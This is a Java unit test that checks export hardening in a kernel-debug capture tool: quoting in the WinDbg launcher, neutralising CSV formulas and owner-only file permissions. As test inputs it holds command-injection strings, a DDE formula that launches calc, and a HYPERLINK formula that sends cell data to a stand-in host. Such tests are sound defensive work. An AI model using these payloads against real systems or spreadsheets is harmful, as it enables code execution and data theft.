package kdring.model.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import kdring.model.export.Exports;
import kdring.model.export.WindbgEndpoint;

/** Exports of a capture whose names and texts an attacker chose: nothing of theirs may run where the export is opened. */
class HostileExportTest {

    private static final String NAME = "demo\" & calc.exe & rem \"";
    private static final String PIPE = "x\" & calc.exe & rem";
    private static final String MODULE = "=cmd|' /C calc'!A0";
    private static final String PRINT = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")\n";

    @TempDir
    Path dir;

    @Test
    void theWindbgLauncherCarriesNoCommandSyntaxFromTheCapture() throws IOException {
        Path capture = SyntheticSession.recordHostile(dir, NAME, PIPE, MODULE, PRINT);
        Path out = dir.resolve("windbg");
        Exports.windbg(capture, out, new WindbgEndpoint("", 0, ""));
        List<Path> launchers;
        try (Stream<Path> files = Files.list(out)) {
            launchers = files.filter(f -> f.getFileName().toString().endsWith(".cmd")).toList();
        }
        assertEquals(1, launchers.size(), launchers.toString());
        String name = launchers.get(0).getFileName().toString();
        assertTrue(name.matches("windbg-[A-Za-z0-9._-]+\\.cmd"), name);
        String cmd = Files.readString(launchers.get(0));
        for (String line : cmd.split("\r\n")) {
            assertFalse(line.matches(".*[&|<>^%].*"), "cmd.exe syntax in the launcher: " + line);
            assertEquals(0, line.chars().filter(c -> c == '"').count() % 2, "unbalanced quotes: " + line);
        }
        assertTrue(cmd.contains("windbg.exe -k com:ipport=50001,port=127.0.0.1"), cmd);

        // a host name that is not one and a pipe name with syntax: no command at all, a pointer to connect.txt
        Path other = dir.resolve("windbg-bad-host");
        Exports.windbg(capture, other, new WindbgEndpoint("10.0.0.1&calc", 50001, ""));
        try (Stream<Path> files = Files.list(other)) {
            String text = Files.readString(files.filter(f -> f.toString().endsWith(".cmd")).findFirst().orElseThrow());
            assertFalse(text.contains("&"), text);
            assertTrue(text.contains("exit /b 1"), text);
        }
    }

    @Test
    void csvCellsNeverStartAFormula() throws IOException {
        Path capture = SyntheticSession.recordHostile(dir, NAME, PIPE, MODULE, PRINT);
        Path out = dir.resolve("csv");
        Exports.csv(capture, out);
        String modules = Files.readString(out.resolve("modules.csv"));
        String events = Files.readString(out.resolve("events.csv"));
        assertTrue(modules.contains("'" + MODULE), modules);
        assertTrue(events.contains("'=HYPERLINK("), events);
        for (String csv : List.of(modules, events)) {
            for (String line : csv.split("\r\n")) {
                for (String cell : line.split(",")) {
                    String bare = cell.startsWith("\"") ? cell.substring(1) : cell;
                    assertFalse(!bare.isEmpty() && "=+@\t\r".indexOf(bare.charAt(0)) >= 0,
                            "a cell starts a formula: " + cell + " in " + line);
                }
            }
        }
    }

    @Test
    void capturesAndExportsAreReadableByTheirOwnerOnly() throws IOException {
        Path capture = SyntheticSession.recordWin10(dir);
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(capture)));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(
                kdring.model.persist.SessionStore.metadataFor(capture))), "the session metadata");
        Exports.pcapng(capture, dir.resolve("x.pcapng"));
        Exports.json(capture, dir.resolve("x.json"));
        Exports.csv(capture, dir.resolve("csv"));
        Exports.windbg(capture, dir.resolve("windbg"), new WindbgEndpoint("", 0, ""));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(dir.resolve("x.pcapng"))));
        assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(dir.resolve("x.json"))));
        for (String folder : List.of("csv", "windbg")) {
            assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(dir.resolve(folder))));
            try (Stream<Path> files = Files.list(dir.resolve(folder))) {
                for (Path file : files.toList()) {
                    assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(file)),
                            file.toString());
                }
            }
        }
    }
}
